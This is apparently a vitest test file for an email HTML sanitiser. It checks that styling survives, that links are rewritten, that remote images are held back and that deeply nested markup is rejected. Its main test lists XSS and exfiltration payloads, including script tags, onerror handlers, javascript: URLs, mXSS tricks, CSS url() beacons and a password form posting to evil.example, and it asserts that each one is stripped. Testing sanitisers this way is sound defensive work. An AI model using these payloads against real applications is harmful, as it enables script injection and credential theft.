import { expect, test } from "vitest";

import { makeSafe } from "./safe-html.ts";

const show = async (html: string, withPictures = false) => {
  const safe = await makeSafe(html, { withPictures, linkTo: (id) => (id === "logo@oak" ? "/own/logo" : undefined) });
  return safe ?? { html: "too much of a maze", hasPictures: false };
};

test.each([
  `<script>steal()</script>`,
  `<svg><script>steal()</script></svg>`,
  `<img src=x onerror="steal()">`,
  `<body onload="steal()">`,
  `<a href="javascript:steal()">Read</a>`,
  `<a href="data:text/html,<script>steal()</script>">Read</a>`,
  `<a href="vbscript:steal()">Read</a>`,
  `<iframe srcdoc="<script>steal()</script>"></iframe>`,
  `<object data="https://evil.example/steal"></object><embed src="https://evil.example/steal">`,
  `<base href="https://evil.example/steal/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/steal">`,
  `<link rel="stylesheet" href="https://evil.example/steal.css">`,
  `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`,
  `<video poster="https://evil.example/steal"></video><audio src="https://evil.example/steal"></audio>`,
  `<p style="background:url('https://evil.example/steal')">x</p>`,
  `<p style="background: URL( https://evil.example/steal )">x</p>`,
  `<style>p{background:url(https://evil.example/steal)} @import "https://evil.example/steal";</style>`,
  `<style>/* < */ p{background-image:image-set("https://evil.example/steal" 1x)}</style>`,
  `<table background="https://evil.example/steal"><tr><td>x</table>`,
  `<img srcset="https://evil.example/steal 2x" src="//evil.example/steal">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=steal()></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>`,
  `<template><img src=x onerror=steal()></template>`,
])("of %s nothing is left that acts, sends or loads", async (hostile) => {
  const { html } = await show(`<p>Hello</p>${hostile}`);
  expect(html).toContain("<p>Hello</p>");
  expect(html).not.toMatch(/steal|evil\.example/i);
});

test("what a mail looks like stays, and its links open outside without telling where they were", async () => {
  const { html, hasPictures } = await show(
    `<h1 style="color:#900">Offers</h1><table bgcolor="#eee"><tr><td align="center">Desk</td></tr></table><a href="https://oak.example/?a=1&b=2" target="_self" rel="opener">See</a><a href="#top">Top</a><a href="/dashboard">In</a>`,
  );
  expect(html).toContain(`<h1 style="color:#900">Offers</h1>`);
  expect(html).toContain(`<td align="center">Desk</td>`);
  expect(html).toContain(
    `<a target="_blank" rel="noopener noreferrer nofollow" href="https://oak.example/?a=1&amp;b=2">See</a>`,
  );
  expect(html).toContain(`<a>Top</a><a>In</a>`);
  expect(hasPictures).toBe(false);
});

test("pictures that came along are shown, those from elsewhere once somebody wants them", async () => {
  const mail = `<img src="cid:logo@oak" alt="Logo"><img src="cid:unknown"><img src="data:image/png;base64,AAAA"><img src="http://oak.example/desk.png"><p style="background:url(https://oak.example/b.png)">x</p>`;
  const without = await show(mail);
  expect(without).toMatchObject({ hasPictures: true });
  expect(without.html).toContain(`src="/own/logo"`);
  expect(without.html).toContain(`src="data:image/png;base64,AAAA"`);
  expect(without.html).not.toContain("oak.example");
  const all = await show(mail, true);
  expect(all.html).toContain(`src="https://oak.example/desk.png"`);
  expect(all.html).toContain("url(https://oak.example/b.png)");
  expect(all.html).not.toContain("unknown");
});

test("a mail that is a maze is not shown so", async () => {
  expect(await makeSafe("<div>".repeat(30_000), { withPictures: false, linkTo: () => undefined })).toBeNull();
});
